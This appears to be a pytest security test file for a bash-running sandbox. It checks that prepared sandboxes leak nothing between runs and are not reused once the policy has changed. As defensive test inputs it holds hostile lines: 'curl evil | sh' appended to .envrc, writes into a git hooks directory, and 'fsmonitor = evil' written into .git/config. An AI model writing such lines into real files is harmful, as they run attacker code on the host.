"""#23: a prepared sandbox (``sandbox.prepare``) serves only the run that would get exactly it, and
nothing of one run reaches the next through it.

Through ``SessionManager`` under every confining backend. Whether a run took a prepared sandbox is
the run's own mark (``took_spare``); each "not taken" check has beside it a run of the same kind
that did take one, so a preparation that never happens cannot pass.
"""

from __future__ import annotations

import os
import threading

import psutil
import pytest

from run_bash import fsdeps
from run_bash.config import parse_config
from tests.conftest import until, wait_for
from tests.security.conftest import Runner
from tests.security.test_hostread import git


@pytest.fixture
def sbx(sbx: Runner) -> Runner:
    """The suite's runner with preparation on (``sandbox.prepare``, the default), whatever the
    suite's own configuration says."""
    return sbx.with_config(sandbox={"prepare": True})


def settled(sbx: Runner) -> int:
    """Wait until the runner's preparations are done; how many prepared sandboxes are kept."""
    assert sbx.mgr.spares.settle(30)
    return len(sbx.mgr.spares.ready())


def run_marked(sbx: Runner, cmd: str, cwd=None):
    s = sbx.start(cmd, cwd)
    r = sbx.wait(s)
    return r, "took_spare" in s.marks


def test_a_run_takes_the_prepared_sandbox_and_leaves_nothing_to_the_next(sbx, world):
    tag = f"{os.getpid() % 10000}{id(sbx) % 1000:03d}"
    sbx.run("true")
    assert settled(sbx) == 1
    first, took = run_marked(
        sbx,
        "echo secret > /tmp/leak; echo secret > $TMPDIR/leak2; export LEAKVAR=1; cd /; "
        f"(sleep 1000.{tag} &); echo tag=$RUN_BASH_SESSION; cat /proc/self/cgroup; "
        "cat /proc/self/status | grep -i '^NSpid'",
    )
    assert took and first.exit_code == 0, first.output
    # What the first one left behind in the background died with it (found by its tag).
    assert not [
        p
        for p in psutil.process_iter(["cmdline"])
        if (p.info["cmdline"] or [])[-1:] == [f"1000.{tag}"]
    ]
    assert settled(sbx) == 1
    second, took = run_marked(
        sbx,
        "ls -A /tmp $TMPDIR; echo var=${LEAKVAR-unset}; pwd; echo tag=$RUN_BASH_SESSION; "
        "cat /proc/self/cgroup; read -t 1 x; echo stdin=$?:$x",
    )
    assert took and second.exit_code == 0, second.output
    assert "leak" not in second.output
    assert "var=unset" in second.output
    assert str(world.project) in second.output.splitlines()
    assert "stdin=1:" in second.output  # /dev/null, not the command pipe
    tags = [ln for ln in (first.output + second.output).splitlines() if ln.startswith("tag=")]
    assert len(tags) == 2 and tags[0] != tags[1] and "tag=" not in {t.strip() for t in tags}
    memory = [
        ln
        for out in (first.output, second.output)
        for ln in out.splitlines()
        if ":memory:" in ln and ln.split(":memory:")[1] not in ("", "/")
    ]
    if len(memory) == 2:  # each run in a memory cgroup of its own
        assert memory[0] != memory[1]


def test_prepare_off_builds_every_sandbox_when_its_command_starts(sbx, world):
    off = sbx.with_config(sandbox={"prepare": False})
    for _ in range(3):
        r, took = run_marked(off, "echo ok")
        assert r.output.strip() == "ok" and not took
        assert settled(off) == 0
    active, text = off.mgr.spares.describe(off.mgr.resolve_backend()[0])
    assert not active and "sandbox.prepare = false" in text
    # The control: the same runs with preparation on take one.
    sbx.run("true")
    assert settled(sbx) == 1
    assert run_marked(sbx, "echo ok")[1]
    assert sbx.mgr.spares.describe(sbx.mgr.resolve_backend()[0])[0]


def test_a_run_in_another_directory_does_not_take_the_projects_prepared_sandbox(sbx, world):
    sub = world.project / "sub"
    sub.mkdir()
    sbx.run("true")
    assert settled(sbx) == 1
    r, took = run_marked(sbx, "pwd", cwd=sub)
    assert not took and r.output.strip() == str(sub)
    assert settled(sbx) == 1
    r, took = run_marked(sbx, "pwd", cwd=sub)  # the control: prepared for sub now
    assert took and r.output.strip() == str(sub)


def test_a_new_configuration_throws_prepared_sandboxes_away(sbx, world):
    extra = world.home / "extra"
    extra.mkdir()
    sbx.run("true")
    assert settled(sbx) == 1
    r, took = run_marked(sbx, f"echo x > {extra}/a && echo wrote")
    assert took and "wrote" not in r.output and not (extra / "a").exists()
    assert settled(sbx) == 1
    raw = {
        "sandbox": {
            "backend": sbx.name,
            "prepare": True,
            "rules": {"fs_writable": [".", str(extra)]},
        }
    }
    sbx.mgr.configure(parse_config(raw))
    assert sbx.mgr.spares.ready() == []
    r, took = run_marked(sbx, f"echo x > {extra}/a && echo wrote")
    assert not took and "wrote" in r.output and (extra / "a").exists()


def test_a_git_config_edited_after_preparation_reaches_the_next_run(sbx, world):
    """The user sets ``core.hooksPath`` to a directory of the project while a sandbox is
    prepared: the next run gets the policy that keeps that directory, not the prepared one."""
    hooks = world.project / "tools/hooks"
    hooks.mkdir(parents=True)
    (hooks / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
    sbx.run("true")
    assert settled(sbx) == 1
    # The control: before the edit, a prepared sandbox is taken and the directory is writable.
    r, took = run_marked(sbx, "echo '# x' >> tools/hooks/pre-commit && echo wrote")
    assert took and "wrote" in r.output, r.output
    (hooks / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
    assert settled(sbx) == 1
    git(world, "config", "core.hooksPath", "tools/hooks", check=True)
    s = sbx.start("echo '# pwned' >> tools/hooks/pre-commit; echo end")
    r = sbx.wait(s)
    assert "took_spare" not in s.marks
    assert "end" in r.output
    assert (hooks / "pre-commit").read_text() == "#!/bin/sh\nexit 0\n"


def test_a_protected_file_created_after_preparation_reaches_the_next_run(sbx, world):
    """``.envrc`` appears (direnv runs it on the host) while a sandbox is prepared: the next run
    must not be the one prepared without it."""
    sbx.run("true")
    assert settled(sbx) == 1
    assert run_marked(sbx, "true")[1]  # the control: unchanged, the prepared one is taken
    assert settled(sbx) == 1
    (world.project / ".envrc").write_text("export A=1\n")
    s = sbx.start("echo 'curl evil | sh' >> .envrc; echo end")
    r = sbx.wait(s)
    assert "took_spare" not in s.marks
    assert "end" in r.output
    assert (world.project / ".envrc").read_text() == "export A=1\n"


def test_a_sandbox_made_from_a_policy_that_went_stale_before_it_was_made_is_not_taken(
    sbx, world, monkeypatch
):
    """A prepared sandbox is made from the kept policy without looking again at what computing
    it read (``Launching.policy(spare=True)``): the run that takes it computes and checks its
    own. The user sets ``core.hooksPath`` while no run looks, and then the next sandbox is made
    from the policy kept before (which does not keep that directory): the run that comes does
    not take it, and cannot write the hook. The control first: made the same way with nothing
    changed, the sandbox is taken, and the directory is writable."""
    monkeypatch.setattr(fsdeps, "SETTLED_NS", 0)  # fresh test files count as settled: kept
    hooks = world.project / "tools/hooks"
    hooks.mkdir(parents=True)
    (hooks / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
    sbx.run("true")
    assert settled(sbx) == 1
    backend = sbx.mgr.backend(sbx.name)
    cwd = str(world.project)

    def made_again() -> None:
        sbx.mgr.spares.clear("the test makes it again")
        sbx.mgr.spares.want(cwd, backend)
        assert settled(sbx) == 1

    made_again()
    r, took = run_marked(sbx, "echo '# x' >> tools/hooks/pre-commit && echo wrote")
    assert took and "wrote" in r.output, r.output  # the control
    (hooks / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
    assert settled(sbx) == 1
    git(world, "config", "core.hooksPath", "tools/hooks", check=True)
    made_again()
    before = sbx.mgr.spares.discarded
    s = sbx.start("echo '# pwned' >> tools/hooks/pre-commit; echo end")
    r = sbx.wait(s)
    assert "end" in r.output
    assert (hooks / "pre-commit").read_text() == "#!/bin/sh\nexit 0\n"
    assert "took_spare" not in s.marks
    assert sbx.mgr.spares.discarded == before + 1  # it was made, from the stale policy


def test_a_path_its_plan_looked_at_that_appears_after_preparation_reaches_the_next_run(
    sbx, world, monkeypatch
):
    """A denied path appears under a grant while a sandbox is prepared: the policy is the same
    object (the rules name the path whether it exists or not), but a sandbox made now hides it.
    The prepared sandbox's plan, which a run that changed nothing takes as it is
    (``spare.Planned``), is made again, and the run does not get the sandbox that shows it."""
    from run_bash import fsdeps
    from run_bash.sandbox.policy import default_rules

    monkeypatch.setattr(fsdeps, "SETTLED_NS", 0)  # the world was made a moment ago
    secret = world.project / "secret"
    rb = sbx.with_config(
        sandbox={
            "prepare": True,
            "rules": {"fs_denied": [*default_rules()["fs_denied"], str(secret)]},
        }
    )
    backend = rb.mgr.backend(rb.name)
    planned_again: list[str] = []
    plan = backend._plan

    def spy(spec, *args, **kwargs):
        if not spec.prepared:
            planned_again.append(spec.session_id)
        return plan(spec, *args, **kwargs)

    monkeypatch.setattr(backend, "_plan", spy)
    rb.run("true")
    assert settled(rb) == 1
    # What the preparation computed is armed once it is done: the next run's check reads events.
    *_, (_config, _policy, reads) = rb.mgr.launching._memo.values()
    assert reads.armed  # the policy the preparation computed (the last kept)
    # The control: nothing changed, the prepared sandbox is taken and not planned again.
    planned_again.clear()
    r, took = run_marked(rb, "ls secret; echo end")
    assert took and "end" in r.output, r.output
    assert planned_again == []
    assert settled(rb) == 1
    secret.mkdir()
    (secret / "key").write_text("hunter2\n")
    s = rb.start("cat secret/key; echo end")
    r = rb.wait(s)
    assert "end" in r.output, r.output
    assert "hunter2" not in r.output
    assert "took_spare" not in s.marks
    # The claim planned the prepared sandbox again (its tag), then the run started anew.
    assert len(planned_again) == 2 and planned_again[0].startswith("spare"), planned_again
    assert planned_again[1] == s.id


def test_the_next_sandbox_is_made_beside_a_long_run(sbx, world):
    """A server or a build keeps running: the next command's sandbox is made beside it, not
    only when it ends."""
    s = sbx.start("sleep 60", timeout=90)
    try:

        async def prepared() -> bool:
            return await until(lambda: sbx.mgr.spares.ready() or sbx.mgr.spares._pending, 30)

        assert sbx.loop.run_until_complete(prepared())
        assert settled(sbx) == 1
        assert s.running
        r, took = run_marked(sbx, "echo beside")
        assert took and r.output.strip() == "beside"
    finally:
        sbx.kill(s)


def _made_beside(sbx: Runner, world, change: str):
    """Start a run that waits for ``go``, then runs ``change``; return it once the next
    command's sandbox was made beside it (before the change)."""
    sbx.run("true")
    assert settled(sbx) == 1
    go = world.project / "go"
    s = sbx.start(f"while [ ! -e go ]; do sleep 0.02; done; {change}; echo changed", timeout=60)

    async def made() -> bool:
        return await until(lambda: bool(sbx.mgr.spares.ready()) and s.running, 30)

    assert sbx.loop.run_until_complete(made())
    assert settled(sbx) == 1
    go.write_text("")
    r = sbx.wait(s)
    assert "changed" in r.output, r.output
    go.unlink()
    return r


def test_a_sandbox_made_beside_a_run_is_taken_when_that_run_changed_nothing_it_holds(sbx, world):
    """The control of the next test: a sandbox made while a run goes serves the next run."""
    _made_beside(sbx, world, "echo plain > notes.txt")
    before = sbx.mgr.spares.discarded
    r, took = run_marked(sbx, "cat notes.txt")
    assert took and r.output.strip() == "plain", r.output
    assert sbx.mgr.spares.discarded == before


def test_a_sandbox_made_beside_a_run_is_thrown_away_when_that_run_made_a_repository(sbx, world):
    """The run going when the next sandbox was made creates a repository: the next run's policy
    (computed when it claims) protects the new repository's config, so the sandbox made before
    is thrown away, and the next run cannot write that config."""
    _made_beside(sbx, world, "git init -q sub")
    config = world.project / "sub/.git/config"
    assert config.is_file()
    text = config.read_text()
    before = sbx.mgr.spares.discarded
    s = sbx.start("echo '[core]fsmonitor = evil' >> sub/.git/config; echo end")
    r = sbx.wait(s)
    assert "took_spare" not in s.marks
    assert sbx.mgr.spares.discarded == before + 1
    assert "end" in r.output
    assert config.read_text() == text


def test_commands_back_to_back_each_take_a_prepared_sandbox(sbx, world):
    """Each next command is sent as soon as the previous one's result came (its clean-up may
    still be going on): the next sandbox is already asked for by then, and each run takes one."""
    sbx.run("true")
    assert settled(sbx) == 1
    sessions = []
    for i in range(5):
        s = sbx.start(f"echo {i}")
        r = sbx.first_result(s)
        assert r.output.strip() == str(i), r.output
        # The moment the result is there, the next command's sandbox is ready or being made.
        assert sbx.mgr.spares.ready() or sbx.mgr.spares._pending
        sessions.append(s)
    assert all("took_spare" in s.marks for s in sessions), [sorted(s.marks) for s in sessions]
    for s in sessions:
        sbx.wait(s)


def test_a_prepared_sandbox_fits_while_the_available_memory_moves(sbx, world, monkeypatch):
    """Where half the available memory is less than ``max_temp_size``, it sizes the run's temp
    space; memory moves by a few pages between a sandbox's preparation and the run that takes it,
    and the run still takes it. The temp space stays within half of what is available."""
    import itertools

    from run_bash.sandbox import tempfs

    wobble = itertools.count()
    available = 1 << 30  # half of it (512 MiB) is under the cap below

    def moving() -> int:
        return available + (next(wobble) % 7) * 13 * tempfs.PAGE

    monkeypatch.setattr(tempfs, "available_memory", moving)
    rb = sbx.with_config(sandbox={"prepare": True, "limits": {"max_temp_size": "1G"}})
    rb.run("true")
    assert settled(rb) == 1
    for _ in range(3):
        r, took = run_marked(rb, "df -k /tmp | tail -1")
        assert took, r.output
        size_kib = int(r.output.split()[1])
        assert 15 * available // 32 <= size_kib * 1024 <= available // 2, r.output
        assert settled(rb) == 1


def test_a_prepared_sandbox_is_not_taken_once_the_available_memory_fell(sbx, world, monkeypatch):
    """The temp space is sized by the memory available when a sandbox is made: when half of it
    is gone by the time a run comes, the run does not get the prepared sandbox's larger temp
    space (its request is made again, with the size memory allows now), though nothing on
    the file system changed. The control: with the memory as it was, the run takes it."""
    from run_bash import fsdeps
    from run_bash.sandbox import tempfs

    monkeypatch.setattr(fsdeps, "SETTLED_NS", 0)  # the world was made a moment ago
    available = [1 << 30]
    monkeypatch.setattr(tempfs, "available_memory", lambda: available[0])
    rb = sbx.with_config(sandbox={"prepare": True, "limits": {"max_temp_size": "1G"}})
    rb.run("true")
    assert settled(rb) == 1
    r, took = run_marked(rb, "df -k /tmp | tail -1")
    assert took and int(r.output.split()[1]) * 1024 <= available[0] // 2, r.output
    assert settled(rb) == 1
    available[0] = 1 << 28
    s = rb.start("df -k /tmp | tail -1")
    r = rb.wait(s)
    assert "took_spare" not in s.marks
    assert int(r.output.split()[1]) * 1024 <= available[0] // 2, r.output


def leased(path) -> bool:
    """Whether the kernel lists a lease on ``path``'s inode (``/proc/locks``)."""
    st = os.stat(path)
    dev = f"{os.major(st.st_dev):02x}:{os.minor(st.st_dev):02x}:{st.st_ino}"
    with open("/proc/locks") as f:
        return any(" LEASE " in line and f" {dev} " in line for line in f)


def test_no_sandbox_is_prepared_ahead_while_a_run_holds_a_file_lease(sbx, world):
    """A run holds a write lease on .git/config: any other process's open of the file breaks it
    (the holder is signalled, which kills it by default, and the opener waits). Preparing the next
    command's sandbox is work nobody asked for yet, and computing its policy asks git, which reads
    that config: while a run holds a lease, no sandbox is prepared ahead, and the lease is still
    there for the next run's own post-run check to judge. The control: once the holder is gone,
    the same preparation (git asked again) makes a sandbox."""
    from tests.security.test_guard import LEASE

    (world.project / "lease.py").write_text(LEASE)
    config = world.project / ".git/config"
    backend = sbx.mgr.backend(sbx.name)
    holder = sbx.start("python3 lease.py .git/config 40", timeout=60)
    try:
        sbx.wait_output(holder, "LEASED")
        assert leased(config)
        assert sbx.mgr.spares.settle(30)
        sbx.mgr.spares.clear("the test asks for a new one")
        # The user edits their git configuration meanwhile: the next policy asks git again.
        with open(world.home / ".gitconfig", "a") as f:
            f.write("[user]\n\tname = someone\n")
        sbx.mgr.spares.want(str(world.project), backend)
        made = settled(sbx)
        assert leased(config)
        assert made == 0
        assert "lease" in sbx.mgr.spares.error, sbx.mgr.spares.error
    finally:
        sbx.kill(holder)
    with open(world.home / ".gitconfig", "a") as f:
        f.write("[user]\n\temail = someone@example.org\n")
    sbx.mgr.spares.want(str(world.project), backend)
    assert settled(sbx) == 1


LIMITS = "grep -E '^Max (file size|processes|data size) ' /proc/self/limits"


def _limit_lines(output: str) -> list[str]:
    return sorted(" ".join(x.split()) for x in output.splitlines() if x.startswith("Max "))


@pytest.mark.parametrize("posix", [False, True], ids=["", "POSIXLY_CORRECT"])
def test_a_prepared_sandbox_has_the_per_process_limits_of_one_built_for_its_command(
    sbx, world, posix
):
    """The per-process limits (file size, processes, data: soft and hard) of a command run in a
    prepared sandbox are exactly those of the same command in a sandbox built for it
    (``sandbox.prepare = false``), and under bubblewrap exactly the configured ones. With
    ``POSIXLY_CORRECT`` set for runs too: bash's own ``ulimit``, which a prepared bwrap
    sandbox uses, would count file sizes in 512-byte blocks there."""
    env = {"set": {"POSIXLY_CORRECT": "1"}} if posix else {}
    prepared = sbx.with_config(sandbox={"prepare": True, "env": env})
    built = sbx.with_config(sandbox={"prepare": False, "env": env})
    cmd = f"{LIMITS}; echo posix=${{POSIXLY_CORRECT-}}"
    prepared.run("true")
    assert settled(prepared) == 1
    r, took = run_marked(prepared, cmd)
    assert took and r.exit_code == 0, r.output
    assert f"posix={'1' if posix else ''}" in r.output, r.output
    control, took_built = run_marked(built, cmd)
    assert not took_built and control.exit_code == 0, control.output
    lines = _limit_lines(r.output)
    assert len(lines) == 3, r.output
    assert lines == _limit_lines(control.output)
    if sbx.name == "bubblewrap":
        limits = parse_config({}).sandbox.limits
        size, mem, nproc = limits.max_file_size, limits.max_memory, limits.max_processes
        assert lines == [
            f"Max data size {mem} {mem} bytes",
            f"Max file size {size} {size} bytes",
            f"Max processes {nproc} {nproc} processes",
        ]


def order_of_first_run(sbx: Runner, monkeypatch) -> tuple[list[str], threading.Event]:
    """What happens around the host's first run, in order ("armed" when the watches of a
    prepared sandbox's policy are set, "result" when a run's result is sent), and the event the
    preparation's policy waits for. (No sandbox is made beside a run that runs a while: only
    the preparation it waits for.)"""
    from run_bash.sessions import manager

    monkeypatch.setattr(manager, "PREPARE_BESIDE_S", 60.0)
    mgr = sbx.mgr
    order: list[str] = []
    real_arm, real_policy = mgr.spares._arm_policies, mgr.spares._policy
    monkeypatch.setattr(mgr.spares, "_arm_policies", lambda: (order.append("armed"), real_arm()))
    events = mgr.on_event
    mgr.on_event = lambda n, p: (order.append(n) if n == "result" else None, events(n, p))
    release = threading.Event()

    def held_policy(path: str):
        release.wait(30)
        return real_policy(path)

    monkeypatch.setattr(mgr.spares, "_policy", held_policy)
    return order, release


def test_the_hosts_first_run_leaves_its_sandboxs_watches_until_its_result(sbx, world, monkeypatch):
    """A host's first command waits for everything the host does at its start: the watches of
    the policy its prepared sandbox was made from (4-5 ms of inotify work) are set by the
    preparation after it, once its result is on its way, not beside it (with the deferral taken
    out, they are set beside it and this fails). Controls: the run took the prepared sandbox,
    the watches are set after its result, and a later run has them set beside it."""
    # (The preparation's policy is held until the run waits for it.)
    order, release = order_of_first_run(sbx, monkeypatch)
    mgr = sbx.mgr
    cwd = str(world.project)

    def release_once_claimed() -> None:
        wait_for(lambda: cwd in mgr.spares._awaited, timeout=30)
        release.set()

    def waits_for_its_sandbox(cmd: str, meanwhile=None) -> None:
        release.clear()
        mgr.spares.want(cwd, mgr.backend(sbx.name))
        watcher = threading.Thread(target=release_once_claimed)
        watcher.start()
        s = sbx.start(cmd)
        if meanwhile is not None:
            wait_for(lambda: "took_spare" in s.marks, timeout=30)
            meanwhile()
        r = sbx.wait(s)
        watcher.join()
        assert r.exit_code == 0 and "took_spare" in s.marks, (r.output, sorted(s.marks))

    assert mgr.spares.commands == 0
    # (The command runs a while, so that watches set beside it would be set before its result.)
    waits_for_its_sandbox("sleep 0.5")
    assert order[:1] == ["result"], order
    assert settled(sbx) == 1
    assert "armed" in order, "set by the preparation after the run (the control: they are set)"
    # Control: a later run waiting for its sandbox has them set beside it, while it runs (with
    # the deferral applied to every run, they are set only by the preparation after it, and
    # this fails). It runs until the test has seen them set.
    mgr.spares.clear("the next run waits for a new one")
    go = world.project / "go"
    os.mkfifo(go)
    later = len(order)

    def armed_while_it_runs() -> None:
        wait_for(lambda: "armed" in order[later:], timeout=10)
        with open(go, "w") as f:
            f.write("go\n")

    waits_for_its_sandbox("cat go", armed_while_it_runs)


def test_the_hosts_first_run_still_in_its_guard_leaves_its_sandboxs_watches_until_its_result(
    sbx, world, monkeypatch
):
    """The host's first command may still be in its guard (a repository's refs, its kept files)
    when its prepared sandbox is made, before it asks for it: it is on its way to it all the
    same (``Spares.expect``), and the sandbox's policy watches wait for its result (without that,
    they are set beside it and this fails). Controls: the run took the prepared sandbox, and the
    watches are set after its result."""
    # (The preparation's policy is held until the run is being prepared.)
    order, on_its_way = order_of_first_run(sbx, monkeypatch)
    mgr = sbx.mgr
    cwd = str(world.project)
    real_guard = mgr.keeper.prepare

    def guard_once_the_sandbox_is_made(*args, **kwargs):
        on_its_way.set()
        wait_for(lambda: cwd not in mgr.spares._pending, timeout=30)
        return real_guard(*args, **kwargs)

    monkeypatch.setattr(mgr.keeper, "prepare", guard_once_the_sandbox_is_made)
    assert mgr.spares.commands == 0
    mgr.spares.want(cwd, mgr.backend(sbx.name))
    s = sbx.start("sleep 0.5")
    r = sbx.wait(s)
    assert r.exit_code == 0 and "took_spare" in s.marks, (r.output, sorted(s.marks))
    assert order[:1] == ["result"], order
    assert settled(sbx) == 1
    assert "armed" in order, "set by the preparation after the run (the control: they are set)"
